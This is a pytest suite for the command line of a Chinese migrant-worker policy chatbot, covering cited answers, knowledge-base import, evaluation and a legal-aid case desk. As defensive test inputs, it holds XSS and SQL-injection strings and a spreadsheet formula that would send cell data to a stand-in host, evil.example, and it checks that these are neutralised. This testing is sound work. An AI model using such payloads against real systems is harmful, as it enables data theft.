"""The `policybot` command in a subprocess, as a person or a script would run it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[3]
PLAN = REPO / "knowledge" / "data" / "tianjin-2023-county-migrant-plan.txt"


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    return tmp_path


def policybot(
    *args: str, cwd: Path, stdin: str | None = None, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    environment = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith("POLICYBOT_") and key != "TELEGRAM_BOT_TOKEN"
    }
    environment["POLICYBOT_DATABASE__URL"] = f"sqlite:///{cwd / 'test.db'}"
    environment.update(env or {})
    return subprocess.run(
        [sys.executable, "-m", "bot.cli", *args],
        cwd=cwd,
        input=stdin,
        capture_output=True,
        text=True,
        env=environment | {"PYTHONPATH": str(REPO)},
        timeout=120,
        check=False,
    )


def test_ask_prints_a_cited_answer(workdir: Path) -> None:
    result = policybot("ask", "没签合同能要双倍工资吗", cwd=workdir)
    assert result.returncode == 0, result.stderr
    assert "依据：《劳动合同法》第八十二条" in result.stdout


def test_ask_json_has_the_documented_shape(workdir: Path) -> None:
    result = policybot("ask", "--json", "怎么申请创业担保贷款", cwd=workdir)
    assert result.returncode == 0, result.stderr
    answer = json.loads(result.stdout)
    assert set(answer) == {"answer", "topic", "sources", "handoff", "fallback"}
    assert answer["sources"][0]["clause"] == "2.1.5" and answer["topic"] == "employment"
    assert set(answer["sources"][0]) == {"doc", "clause", "title", "score"}
    assert answer["fallback"] is False and answer["handoff"] is False


def test_ask_json_from_stdin_answers_each_line_in_order(workdir: Path) -> None:
    questions = "孩子上公办学校\n上海的社保怎么交\n\n老板欠我两个月工资不给\n😀\n"
    result = policybot("ask", "--json", "-", cwd=workdir, stdin=questions)
    assert result.returncode == 0, result.stderr
    answers = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(answers) == 5
    assert answers[0]["sources"][0]["clause"] == "2.4.4"
    assert answers[1]["fallback"] is True and answers[1]["sources"] == []
    assert answers[2]["fallback"] is True
    # Someone's own dispute: the matter's two best articles, then the union's legal aid (二（三）4).
    assert answers[3]["handoff"] is True
    assert [source["clause"] for source in answers[3]["sources"]][2] == "2.3.4"
    assert answers[4]["fallback"] is True


@pytest.mark.parametrize(
    "question",
    [
        "",
        "   ",
        "x" * 20_000,
        "\x01\x02\x7f",
        "\u202e\u200f",
        "<script>alert(1)</script>",
        "'; DROP TABLE clause;--",
        "𠀀𪚥",
    ],
)
def test_bad_input_gets_an_answer_and_exit_code_0(workdir: Path, question: str) -> None:
    result = policybot("ask", "--json", question, cwd=workdir)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["answer"]


def test_traditional_question_gets_a_traditional_answer(workdir: Path) -> None:
    result = policybot("ask", "工傷保險回老家還能領嗎", cwd=workdir)
    assert "依據" in result.stdout and "險" in result.stdout


def test_kb_parse_json(workdir: Path) -> None:
    result = policybot("kb", "parse", str(PLAN), "--json", cwd=workdir)
    assert result.returncode == 0, result.stderr
    document = json.loads(result.stdout)
    assert set(document) == {"title", "meta", "clauses"}
    assert len(document["clauses"]) == 35
    item = next(c for c in document["clauses"] if c["id"] == "2.1.5")
    assert item["departments"] == ["人社", "农业农村"] and item["parent"] == "2.1"
    assert set(item) == {"id", "kind", "title", "text", "departments", "parent"}


def test_kb_parse_refuses_junk_with_a_message(workdir: Path) -> None:
    junk = workdir / "junk.bin"
    junk.write_bytes(bytes(range(256)) * 4)
    result = policybot("kb", "parse", str(junk), "--json", cwd=workdir)
    assert result.returncode != 0
    assert result.stderr.strip() and "Traceback" not in result.stderr


def test_kb_import_is_idempotent_and_notices_changes(workdir: Path) -> None:
    first = policybot("kb", "import", str(PLAN), cwd=workdir)
    again = policybot("kb", "import", str(PLAN), cwd=workdir)
    assert first.returncode == 0 and again.returncode == 0, first.stderr + again.stderr
    assert "unchanged" in again.stdout
    changed = workdir / "plan.txt"
    changed.write_text(
        PLAN.read_text(encoding="utf-8").replace("2000人以上", "3000人以上"), encoding="utf-8"
    )
    assert "created" in policybot("kb", "import", str(changed), cwd=workdir).stdout
    changed.write_text(PLAN.read_text(encoding="utf-8"), encoding="utf-8")
    assert "updated" in policybot("kb", "import", str(changed), cwd=workdir).stdout


def test_kb_list_and_show(workdir: Path) -> None:
    listing = policybot("kb", "list", cwd=workdir)
    assert "tianjin-2023-county-migrant-plan" in listing.stdout and "35" in listing.stdout
    shown = policybot("kb", "show", "2.3.3", cwd=workdir)
    assert shown.returncode == 0
    assert "拖欠农民工工资" in shown.stdout and "二（三）3" in shown.stdout
    missing = policybot("kb", "show", "9.9.9", cwd=workdir)
    assert missing.returncode != 0 and "9.9.9" in missing.stderr


def test_eval_reports_every_metric(workdir: Path) -> None:
    questions = workdir / "q.jsonl"
    rows = [
        {"id": "t1", "q": "保障性租赁住房租金怎么定", "clauses": ["2.4.3"], "topic": "housing", "handoff": False, "style": "formal"},
        {"id": "t2", "q": "明天下雨吗", "clauses": [], "topic": "out_of_scope", "handoff": False, "style": "colloquial"},
        {"id": "t3", "q": "老板拖了我半年工钱", "clauses": ["2.3.3", "2.3.4"], "topic": "rights", "handoff": True, "style": "colloquial"},
    ]  # fmt: skip
    questions.write_text(
        "\n".join(json.dumps(r, ensure_ascii=False) for r in rows), encoding="utf-8"
    )
    result = policybot("eval", str(questions), "--json", "--baseline", "bm25", cwd=workdir)
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    overall = report["overall"]
    assert overall["top1"] == 1.0 and overall["oos_rejection"] == 1.0
    assert overall["handoff_recall"] == 1.0 and overall["handoff_precision"] == 1.0
    assert set(overall["latency_ms"]) == {"p50", "p99", "max"}
    assert set(report["by_style"]) == {"formal", "colloquial"}
    assert "baseline" in report and "top1" in report["baseline"]


def test_eval_refuses_a_file_in_the_wrong_format(workdir: Path) -> None:
    bad = workdir / "bad.jsonl"
    bad.write_text("not json\n", encoding="utf-8")
    result = policybot("eval", str(bad), cwd=workdir)
    assert result.returncode == 1 and "bad.jsonl:1" in result.stderr


def test_bad_configuration_stops_with_the_key_named(workdir: Path) -> None:
    result = policybot(
        "ask", "你好", cwd=workdir, env={"POLICYBOT_PRIVACY__QUESTION_RETENTION_DAYS": "-5"}
    )
    assert result.returncode == 2
    assert "question_retention_days" in result.stderr and "Traceback" not in result.stderr


def test_logs_carry_numbers_not_the_question(workdir: Path) -> None:
    result = policybot("ask", "--json", "我的手机号13812345678老板欠薪", cwd=workdir)
    assert "13812345678" not in result.stderr and "欠薪" not in result.stderr


def test_chat_reads_numbers_as_choices(workdir: Path) -> None:
    result = policybot("chat", cwd=workdir, stdin="/topics\n1\n退出\n")
    assert result.returncode == 0, result.stderr
    assert "找工作·创业" in result.stdout and "《实施方案》写了这些" in result.stdout


def test_an_imported_regulation_is_answered_and_cited(workdir: Path) -> None:
    regulation = REPO / "tests" / "knowledge" / "fixtures" / "regulation.txt"
    assert policybot("kb", "import", str(regulation), cwd=workdir).returncode == 0
    result = policybot("ask", "用人单位能扣押身份证吗", cwd=workdir)
    assert "依据：《天津市某某用工管理办法》第十二条" in result.stdout


def test_chat_answers_from_the_laws_with_their_article(workdir: Path) -> None:
    result = policybot("chat", cwd=workdir, stdin="试用期最长多久\n退出\n")
    assert result.returncode == 0, result.stderr
    assert "依据：《" in result.stdout and "试用期" in result.stdout
    assert "第十九条" in result.stdout or "第二十一条" in result.stdout


def test_wechat_menu_json_lists_the_topics_and_legal_aid(workdir: Path) -> None:
    result = policybot("wechat", "menu", "--json", cwd=workdir)
    assert result.returncode == 0, result.stderr
    menu = json.loads(result.stdout)
    top = menu["button"]
    assert len(top) <= 3 and all(len(b.get("sub_button", [])) <= 5 for b in top)
    keys = [s["key"] for b in top for s in b.get("sub_button", [b])]
    assert "topic:housing" in keys and "/legalaid" in keys


def free_port() -> int:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


def test_run_without_a_token_serves_the_web_chat(workdir: Path) -> None:
    """The README's first command on a machine with nothing configured: a working web chat."""
    import time
    import urllib.request

    port = free_port()
    environment = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith("POLICYBOT_") and key != "TELEGRAM_BOT_TOKEN"
    }
    process = subprocess.Popen(
        [sys.executable, "-m", "bot.cli", "run", "--port", str(port)],
        cwd=workdir,
        env=environment | {"PYTHONPATH": str(REPO)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        page = ""
        for _ in range(600):
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/chat", timeout=2) as r:
                    page = r.read().decode()
                break
            except OSError:
                if process.poll() is not None:
                    break
                time.sleep(0.1)
        assert "政策小助手" in page
        request = urllib.request.Request(
            f"http://127.0.0.1:{port}/api/chat",
            data=json.dumps(
                {"session": "cli-test-session-0001", "text": "孩子能上公办学校吗"}
            ).encode(),
            headers={"Content-Type": "application/json"},
        )
        with urllib.request.urlopen(request, timeout=10) as r:
            (reply,) = json.loads(r.read())["replies"]
        assert "依据：《实施方案》二（四）4" in reply["text"]
    finally:
        process.terminate()
        _, stderr = process.communicate(timeout=30)
    assert f"http://127.0.0.1:{port}/chat" in stderr
    assert (workdir / "data" / "policybot.db").exists()


def seed_cases(workdir: Path) -> list[str]:
    """Two referrals in the database the CLI will read: one pending, one closed."""
    import asyncio
    from datetime import UTC, datetime

    from bot.storage.case_desk import SqlCaseDesk
    from bot.storage.engine import create_engine_for, init_db
    from handlers.cases import CONSENT_VERSION, CaseDraft, StaffMember

    engine = create_engine_for(f"sqlite:///{workdir / 'test.db'}")
    init_db(engine)
    desk = SqlCaseDesk(engine, staff_chat=None)

    async def submit() -> list[str]:
        numbers = []
        for phone, district in (("13812345678", "武清区"), ("13900001111", "西青区")):
            view = await desk.submit(
                CaseDraft("te-1", "telegram", "1", "wages", district, phone, None,
                          "包工头拖欠工资两个月", datetime.now(UTC), CONSENT_VERSION),
                state_after=lambda _case: {},
            )  # fmt: skip
            numbers.append(view.number)
        second = await desk.get(2)
        assert second is not None
        await desk.close(second.id, StaffMember("telegram:9", "李律师"), "已调解，工资结清")
        return numbers

    numbers = asyncio.run(submit())
    engine.dispose()
    return numbers


def test_cases_list_masks_phone_numbers(workdir: Path) -> None:
    first, second = seed_cases(workdir)
    result = policybot("cases", "list", cwd=workdir)
    assert result.returncode == 0, result.stderr
    assert first in result.stdout and "138****5678" in result.stdout
    assert "13812345678" not in result.stdout and "已结案（李律师）" in result.stdout
    closed = policybot("cases", "list", "--status", "closed", cwd=workdir)
    assert second in closed.stdout and first not in closed.stdout


def test_cases_show_prints_the_whole_case(workdir: Path) -> None:
    first, _ = seed_cases(workdir)
    result = policybot("cases", "show", first, cwd=workdir)
    assert result.returncode == 0, result.stderr
    assert "13812345678" in result.stdout and "包工头拖欠工资两个月" in result.stdout
    assert "同意隐私说明" in result.stdout
    missing = policybot("cases", "show", "LA-19990101-0001", cwd=workdir)
    assert missing.returncode == 1 and "没有案件" in missing.stderr


def test_cases_export_csv_for_the_unions_records(workdir: Path) -> None:
    import csv

    first, second = seed_cases(workdir)
    result = policybot("cases", "export", "--csv", "--out", "cases.csv", cwd=workdir)
    assert result.returncode == 0, result.stderr
    with open(workdir / "cases.csv", encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["number"] for row in rows] == [first, second]
    assert rows[0]["phone"] == "138****5678" and rows[1]["outcome"] == "已调解，工资结清"
    assert rows[1]["status"] == "已结案" and rows[0]["district"] == "武清区"
    full = policybot("cases", "export", "--csv", "--full-phone", cwd=workdir)
    assert "13812345678" in full.stdout


def test_cases_export_neutralises_formulas(workdir: Path) -> None:
    """An employer typed as `=HYPERLINK(…)` is text in the union's spreadsheet (OWASP)."""
    import asyncio
    import csv
    from datetime import UTC, datetime

    from bot.storage.case_desk import SqlCaseDesk
    from bot.storage.engine import create_engine_for, init_db
    from handlers.cases import CONSENT_VERSION, CaseDraft, StaffMember

    engine = create_engine_for(f"sqlite:///{workdir / 'test.db'}")
    init_db(engine)
    desk = SqlCaseDesk(engine, staff_chat=None)
    employer = '=HYPERLINK("http://evil.example/?d="&A1,"点这里")'

    async def submit() -> None:
        view = await desk.submit(
            CaseDraft("te-1", "telegram", "1", "wages", "武清区", "13812345678", employer,
                      "@SUM(1+1) 老板拖欠工资", datetime.now(UTC), CONSENT_VERSION),
            state_after=lambda _case: {},
        )  # fmt: skip
        await desk.add_note(view.id, StaffMember("telegram:9", "+李律师"), "-已联系")

    asyncio.run(submit())
    engine.dispose()
    result = policybot("cases", "export", "--csv", "--out", "cases.csv", cwd=workdir)
    assert result.returncode == 0, result.stderr
    with open(workdir / "cases.csv", encoding="utf-8-sig", newline="") as file:
        (row,) = list(csv.DictReader(file))
    assert row["employer"] == "'" + employer
    assert row["description"] == "'@SUM(1+1) 老板拖欠工资"
    assert row["notes"] == "'+李律师: -已联系"
